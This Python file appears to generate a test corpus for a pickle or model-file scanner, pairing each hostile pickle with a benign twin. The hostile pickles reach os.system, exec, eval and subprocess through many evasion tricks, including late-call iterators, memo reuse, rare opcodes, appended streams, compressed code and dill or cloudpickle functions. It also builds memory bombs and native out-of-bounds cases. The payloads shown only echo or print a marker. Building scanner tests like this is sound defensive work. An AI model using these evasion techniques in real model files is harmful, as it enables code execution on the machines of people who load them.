"""Pickles whose trick is in the stream: opcodes, memo, names that are put together, calls that come later, numbers that lie."""
import base64, bz2, codecs, lzma, marshal, struct, zlib
from base import NOWHERE, SAY, URL, Call, New, Ref, bundle, dump, estimator, os_system, plain, several

SYSTEM = Ref("posix:system")
EVAL = "__import__('os').system('echo jingwei')"


def at(extra, k=0, protocol=4, name="model.pkl"): return {name: dump(bundle(extra, k), protocol)}
def pair(extra, k=0, protocol=4, calm=None, name="model.pkl"): return at(extra, k, protocol, name), at(plain(k) if calm is None else calm, k, protocol, name)
def text(s): return b"X" + struct.pack("<I", len(s.encode())) + s.encode()
def short(s): return b"\x8c" + bytes([len(s)]) + s.encode()
def one(body, protocol=2): return (b"\x80" + bytes([protocol]) if protocol else b"") + body + b"."


several("streams", "late-calls", "block", [
    ("map-eaten-by-deque", "a map over os.system that a deque runs through", *pair(Call("collections:deque", Call("builtins:map", SYSTEM, [SAY])), 0, calm=Call("collections:deque", ["low", "high"], 8))),
    ("starmap-in-set", "itertools.starmap over a function, run by set", *pair(Call("builtins:set", Call("itertools:starmap", Ref("webbrowser:open"), [(URL,)])), 1, calm={7, 3})),
    ("accumulate-in-tuple", "itertools.accumulate calls its function", *pair(Call("builtins:tuple", Call("itertools:accumulate", [["echo", "jingwei"], -1], Ref("subprocess:call"))), 2, calm=(1, 3, 6))),
    ("iter-with-sentinel", "iter(callable, sentinel) calls again and again", *pair(Call("builtins:list", Call("builtins:iter", Call("functools:partial", SYSTEM, SAY), 0)), 4, calm=[0, 1, 2])),
])
several("streams", "state-of-partial", "block", [
    ("partial-state-swapped", "functools.partial of a harmless function whose state swaps the function", *pair(Call(New("functools:partial", Ref("builtins:len"), state=(SYSTEM, (SAY,), {}, None))), 1, calm=Call("functools:partial", Ref("sklearn.metrics._classification:f1_score"), state=(Ref("sklearn.metrics._classification:f1_score"), (), {"average": "macro"}, None)))),
    ("defaultdict-factory", "a defaultdict whose factory is a call that opens a page, asked for a key", *pair(Call(Call("operator:itemgetter", "x"), Call("collections:defaultdict", Call("functools:partial", Ref("webbrowser:open"), URL))), 2, calm=Call("collections:defaultdict", Ref("builtins:int"), pairs=[("the", 3), ("a", 1)]))),
    ("lru-cache", "a cached function is called with a shell's text", *pair(Call(Call(Call("functools:lru_cache", 4), SYSTEM), SAY), 4)),
])
several("streams", "walks", "block", [
    ("attrgetter-chain", "operator.attrgetter walks from a module to os.system", *pair(Call(Call(Call("operator:attrgetter", "os.system"), Call("importlib:import_module", "logging.config")), SAY), 0)),
    ("methodcaller", "operator.methodcaller calls a method by name", *pair(Call(Call("operator:methodcaller", "system", SAY), Call("builtins:__import__", "os")), 1)),
    ("reduce-getattr", "functools.reduce walks attributes", *pair(Call(Call("functools:reduce", Ref("builtins:getattr"), ["os", "system"], Call("builtins:__import__", "logging")), SAY), 2)),
    ("dotted-through-benign", "a dotted name walks from a library that everybody allows to os", *pair(Call("joblib.externals.loky.backend.context:os.system", SAY), 4, 4)),
])
rot = codecs.encode("system", "rot13")
several("streams", "names-put-together", "block", [
    ("join", "the module's name is joined from pieces", *pair(Call(Call("builtins:getattr", Call("builtins:__import__", Call(Call("builtins:getattr", "", "join"), ["o", "s"])), "system"), SAY), 0, 2, calm=["o", "s"])),
    ("rot13", "the function's name is decoded by rot13", *pair(Call(Call("builtins:getattr", Call("builtins:__import__", "os"), Call("codecs:decode", rot, "rot13")), SAY), 1, calm=Call("_codecs:encode", "caf\u00e9", "latin1"))),
    ("escaped-text", "protocol 0 with the names as escapes, put together by STACK_GLOBAL", {"model.pkl": b"V\\u0070\\u006f\\u0073ix\nVsys\\u0074em\n\x93(V" + SAY.encode() + b"\ntR."}, {"model.pkl": b"(V\\u0061ge\nVhei\\u0067ht\nVweight\nl."}),
    ("from-the-memo", "the name's halves are put in the memo, mixed up, and taken out again", {"model.pkl": one(text("json") + b"q\x00" + text("posix") + b"q\x01" + text("system") + b"q\x02" + b"000h\x01h\x02\x93" + text(SAY) + b"\x85R", 4)}, {"model.pkl": one(text("json") + b"q\x00" + text("csv") + b"q\x01" + text("tsv") + b"q\x02" + b"\x87q\x03h\x01h\x02\x86\x86", 4)}),
])
several("streams", "memo", "block", [
    ("slot-written-twice", "a memo slot is overwritten before it is used", {"model.pkl": one(b"ccollections\nOrderedDict\nq\x050cposix\nsystem\nq\x050h\x05" + text(SAY) + b"\x85R")}, {"model.pkl": one(b"ccollections\nCounter\nq\x050ccollections\nOrderedDict\nq\x050h\x05)R" + text("lr") + b"G?PbM\xd2\xf1\xa9\xfcs")}),
    ("far-slot", "a name in memo slot 2³¹-1", {"model.pkl": one(b"cposix\nsystem\nr\xff\xff\xff\x7f0j\xff\xff\xff\x7f" + text(SAY) + b"\x85R")}, {"model.pkl": one(text("classes") + b"r\x00\x01\x00\x000j\x00\x01\x00\x00" + text("yes") + b"\x86")}),
    ("memoize-counts", "MEMOIZE and PUT in turns, so that slots move", {"model.pkl": one(short("a") + b"\x940" + b"cposix\nsystem\nq\x01" + b"0" + short("b") + b"\x940h\x01" + text(SAY) + b"\x85R", 4)}, {"model.pkl": one(short("a") + b"\x940" + short("c") + b"q\x01" + b"0" + short("b") + b"\x940h\x01" + text("d") + b"\x86", 4)}),
])
several("streams", "rare-opcodes", "block", [
    ("inst", "INST makes an object by calling a function", {"model.pkl": one(b"(S'" + SAY.encode() + b"'\niposix\nsystem\n", 0)}, {"model.pkl": one(b"(S'accuracy'\nF0.93\nS'loss'\nF0.21\nd", 0)}),
    ("obj", "OBJ calls what lies at the mark", {"model.pkl": one(b"(cwebbrowser\nopen\n" + text(URL) + b"o", 1)}, {"model.pkl": one(b"(ccollections\nOrderedDict\no" + text("lr") + b"G?PbM\xd2\xf1\xa9\xfcs", 1)}),
    ("newobj-ex", "NEWOBJ_EX makes numpy.memmap, which opens and overwrites a file", {"model.pkl": one(short("numpy") + short("memmap") + b"\x93)}(" + short("filename") + short(NOWHERE) + short("mode") + short("w+") + short("shape") + b"K\x08u\x92", 4)}, {"model.pkl": one(short("numpy") + short("ndarray") + b"\x93)}(" + short("shape") + b"K\x08" + short("dtype") + short("f4") + b"u\x92", 4)}),
    ("extension-registered", "copyreg.add_extension gives os.system a number, and EXT1 takes it", {"model.pkl": one(b"ccopyreg\nadd_extension\n" + text("posix") + text("system") + b"K\xf0\x87R0\x82\xf0" + text(SAY) + b"\x85R")}, {"model.pkl": one(b"(" + text("yes") + text("no") + b"K\xf0l")}),
    ("build-into-module", "BUILD sets os.path.exists to os.system: later the reader's own paths are run", {"model.pkl": one(b"cos\npath\n}" + text("exists") + b"cposix\nsystem\nsb" + b"0" + text("done"))}, {"model.pkl": one(b"ccollections\nOrderedDict\n)\x81}" + text("note") + text("weights of 2026") + b"sb")}),
])
several("streams", "more-than-one-stream", "block", [
    ("second-after-stop", "a second pickle with a call follows the first; libraries that dump several read it", {"model.pkl": dump(bundle(1)) + dump(os_system())}, {"model.pkl": dump(bundle(1)) + dump({"history": [.9, .92]})}),
    ("after-zero-padding", "zeros, then a second pickle", {"model.pkl": dump(estimator(1)) + bytes(512) + dump(os_system())}, {"model.pkl": dump(estimator(1)) + dump({"padding": bytes(64)})}),
    ("call-then-broken", "the call comes first, then the stream breaks off", {"model.pkl": dump(os_system(), 2)[:-1] + b"0" + text("weights")[:-3]}, {"model.pkl": dump(["weights", plain(1)], 2)}),
    ("numpy-then-pickle", "review: a stack of np.save arrays followed by a pickle", {"arrays.npy": b"\x93NUMPY\x01\0v\0" + b"{'descr': '<f4', 'fortran_order': False, 'shape': (4,), }".ljust(117) + b"\n" + bytes(16) + dump(os_system())}, {"arrays.npy": (b"\x93NUMPY\x01\0v\0" + b"{'descr': '<f4', 'fortran_order': False, 'shape': (4,), }".ljust(117) + b"\n" + bytes(16)) * 2}),
])
several("streams", "numbers-that-lie", "block", [
    ("bytes8", "BINBYTES8 says 2⁶² bytes", {"model.pkl": b"\x80\x04\x8e" + struct.pack("<Q", 1 << 62) + b"abcd."}, {"model.pkl": b"\x80\x04\x8e" + struct.pack("<Q", 4) + b"abcd."}),
    ("long4", "review: LONG4 says 2³¹-1 bytes", {"model.pkl": b"\x80\x02\x8b\xff\xff\xff\x7f\x01."}, {"model.pkl": b"\x80\x02\x8b\x09\0\0\0" + bytes(8) + b"\x01."}),
    ("frame-past-the-end", "review: a frame longer than the file", {"model.pkl": b"\x80\x04\x95" + struct.pack("<Q", 1 << 40) + dump(plain(3), 4)[11:]}, {"model.pkl": dump(plain(3), 4)}),
    ("frame-over-opcodes", "review: a frame ends in the middle of an opcode's argument, where a call hides", {"model.pkl": b"\x80\x04\x95" + struct.pack("<Q", 5) + text("age") + b"0" + dump(os_system(), 4)[11:]}, {"model.pkl": b"\x80\x04\x95" + struct.pack("<Q", 10) + text("age") + b"0" + b"N."}),
])
laughs = b"".join(b"(" + b"h%c" % (i) * 12 + b"tq%c" % (i + 1) + b"0" for i in range(9))
several("streams", "memory", "block", [
    ("bytearray", "a bytearray of 4 TiB", *pair(Call("builtins:bytearray", 1 << 42), 1, calm=Call("builtins:bytearray", b"\0" * 32))),
    ("numpy-full", "an array of 16 TiB is filled", *pair(Call("numpy:full", (1 << 21, 1 << 20), 0.5), 2)),
    ("power", "10 to the power of 10 to the power of 9", *pair(Call("builtins:pow", 10, 10 ** 9), 3, calm=10 ** 40)),
    ("tuples-hashed", "nested tuples of twelve, hashed as a key: 12⁹ steps", {"model.pkl": one(text("a") + b"q\x000" + laughs + b"}h\x09K\x01s")}, {"model.pkl": one(text("a") + b"q\x000" + laughs[: len(laughs) // 9] + b"}h\x01K\x01s")}),
])
several("nested", "pickle-in-pickle", "block", [
    ("pickle-loads", "pickle.loads of bytes that call", *pair(Call("pickle:loads", dump(os_system(), 2)), 0, calm=dump(plain(0), 2))),
    ("joblib-buffer", "joblib.load of a buffer", *pair(Call("joblib:load", Call("io:BytesIO", dump(os_system(), 3))), 1, calm=b"BM6\0" * 9)),
    ("read-pickle-buffer", "pandas.read_pickle of a buffer", *pair(Call("pandas.io.pickle:read_pickle", Call("io:BytesIO", dump(os_system(), 4))), 2, calm={"buffer": b"label,count\n" * 40})),
    ("torch-load-from-bytes", "torch.storage._load_from_bytes gets a legacy file with a call", *pair(Call("torch.storage:_load_from_bytes", dump(0x1950A86A20F9469CFC6C, 2) + dump(1001, 2) + dump({"little_endian": True}, 2) + dump(os_system(), 2)), 4)),
])
several("nested", "wrapped-code", "block", [
    ("base64-zlib-exec", "exec of zlib of base64", *pair(Call("builtins:exec", Call("zlib:decompress", Call("base64:b64decode", base64.b64encode(zlib.compress(b"print('jingwei')", 9))))), 0, calm=base64.b64encode(zlib.compress(b"label,count\n" * 30, 9)))),
    ("lzma-exec", "exec of lzma", *pair(Call("builtins:exec", Call("lzma:decompress", lzma.compress(b"print('jingwei')", preset=1))), 1, calm=lzma.compress(b"label,count\n" * 30, preset=1))),
    ("codecs-bz2", "eval of what codecs decode", *pair(Call("builtins:eval", Call("codecs:decode", bz2.compress(EVAL.encode()), "bz2")), 2, calm=bz2.compress(b"label,count\n" * 30))),
    ("marshal-function", "a function made of marshalled code is called", *pair(Call(Call("types:FunctionType", Call("marshal:loads", marshal.dumps(compile("print('jingwei')", "<model>", "exec"), 2)), {})), 3)),
])
CODE = (0, 0, 0, 0, 2, 67, bytes.fromhex("9700640053 00".replace(" ", "")), (None, "jingwei"), ("print",), (), "<model>", "predict", "predict", 1, b"", b"", (), ())
several("functions", "dill", "block", [
    ("create-function", "dill makes a function of a code object and it is called", *pair(Call(Call("dill._dill:_create_function", Call("dill._dill:_create_code", *CODE), {"__name__": "__main__"}, "predict", None, None)), 0, name="model.dill")),
    ("load-type-code", "dill gives the type of functions, which makes one of a code object, and it is called", *pair(Call(Call(Call("dill._dill:_load_type", "FunctionType"), Call("dill._dill:_create_code", *CODE), {})), 1, name="model.dill")),
    ("import-module", "dill imports a module by name", *pair(Call("dill._dill:_import_module", "jingwei_inert.module"), 2, name="model.dill")),
    ("dill-loads", "dill loads a pickle within", *pair(Call("dill:loads", dump(os_system(), 3)), 3, name="model.dill")),
])
several("functions", "cloudpickle", "block", [
    ("make-function", "cloudpickle makes a function of a code object and it is called", *pair(Call(Call("cloudpickle.cloudpickle:_make_function", Call(Call("cloudpickle.cloudpickle:_builtin_type", "CodeType"), *CODE), {}, "predict", None, None)), 0, name="python_model.pkl")),
    ("skeleton-class", "a class built on the spot, whose method is os.system", *pair(Call(Call("cloudpickle.cloudpickle:_make_skeleton_class", Ref("builtins:type"), "Model", (Ref("builtins:object"),), {"__init__": Call("functools:partial", SYSTEM, SAY)}, "a1", None)), 1, name="python_model.pkl")),
    ("subimport", "cloudpickle.subimport imports a module by name", *pair(Call("cloudpickle.cloudpickle:subimport", "jingwei_inert.module"), 2, name="python_model.pkl")),
    ("dynamic-subimport", "review: a module is made on the spot with functions in it", *pair(Call("cloudpickle.cloudpickle:dynamic_subimport", "helpers", {"run": SYSTEM}), 3, name="python_model.pkl")),
])
several("functions", "objects-that-call-later", "block", [
    ("function-transformer", "scikit-learn's FunctionTransformer calls os.system at predict time", *pair(New("sklearn.preprocessing._function_transformer:FunctionTransformer", state={"func": SYSTEM, "validate": False, "_sklearn_version": "1.5.2"}), 0, calm=New("sklearn.preprocessing._function_transformer:FunctionTransformer", state={"func": Ref("numpy:log1p"), "validate": False, "_sklearn_version": "1.5.2"}))),
    ("analyzer", "a vectorizer's analyzer is eval", *pair(New("sklearn.feature_extraction.text:CountVectorizer", state={"analyzer": Ref("builtins:eval"), "vocabulary_": {"a": 0}, "_sklearn_version": "1.5.2"}), 1, calm=New("sklearn.feature_extraction.text:CountVectorizer", state={"analyzer": "word", "vocabulary_": {"good": 0, "bad": 1}, "_sklearn_version": "1.5.2"}))),
    ("make-scorer", "a scorer whose function starts programs", *pair(New("sklearn.metrics._scorer:_Scorer", state={"_score_func": Ref("subprocess:call"), "_sign": 1, "_kwargs": {}}), 2, calm=New("sklearn.metrics._scorer:_Scorer", state={"_score_func": Ref("sklearn.metrics._classification:f1_score"), "_sign": 1, "_kwargs": {"average": "macro"}, "_response_method": "predict"}))),
    ("text-feature", "a lambda-like attrgetter kept as the preprocessor", *pair(New("sklearn.feature_extraction.text:TfidfVectorizer", state={"preprocessor": Call("functools:partial", Ref("builtins:exec"), "print('jingwei')"), "_sklearn_version": "1.5.2"}), 3, calm=New("sklearn.feature_extraction.text:TfidfVectorizer", state={"preprocessor": None, "lowercase": True, "norm": "l2", "_sklearn_version": "1.5.2"}))),
])


def tree(left):
    """A fitted tree of scikit-learn with three nodes, as it pickles itself."""
    import numpy
    kind = numpy.dtype([("left_child", "<i8"), ("right_child", "<i8"), ("feature", "<i8"), ("threshold", "<f8"), ("impurity", "<f8"), ("n_node_samples", "<i8"), ("weighted_n_node_samples", "<f8"), ("missing_go_to_left", "u1")], align=True)
    nodes = numpy.zeros(3, kind)  # and not array(): what lies between the fields must be the same every time
    for index, row in enumerate([(left, 2, 0, .5, .4, 10, 10, 0), (-1, -1, -2, -2, 0, 6, 6, 0), (-1, -1, -2, -2, 0, 4, 4, 0)]):
        for name, number in zip(kind.names, row): nodes[name][index] = number
    return Call("sklearn.tree._tree:Tree", 4, numpy.array([2]), 1, state={"max_depth": 1, "node_count": 3, "nodes": nodes, "values": numpy.array([[[6., 4.]], [[6., 0.]], [[0., 4.]]])})


several("functions", "native-state", "review", [
    ("tree-child-outside", "a scikit-learn tree whose child lies outside the array of nodes: the reader walks out of memory", *pair(tree(1 << 40), 0, calm=tree(1))),
    ("array-with-object-bytes", "a numpy array of objects whose content is bytes: pointers of the file's choice", *pair(Call("numpy.core.multiarray:_reconstruct", Ref("numpy:ndarray"), (0,), b"b", state=(1, (2,), Call("numpy:dtype", "O8", False, True, state=(3, "|", None, None, None, -1, -1, 63)), False, b"A" * 16)), 1)),
    ("scalar-of-objects", "numpy's scalar of dtype object from bytes", *pair(Call("numpy.core.multiarray:scalar", Call("numpy:dtype", "O8", False, True, state=(3, "|", None, None, None, -1, -1, 63)), b"AAAAAAAA"), 2, calm=Call("numpy.core.multiarray:scalar", Call("numpy:dtype", "f8", False, True, state=(3, "<", None, None, None, -1, -1, 0)), struct.pack("<d", .93)))),
])
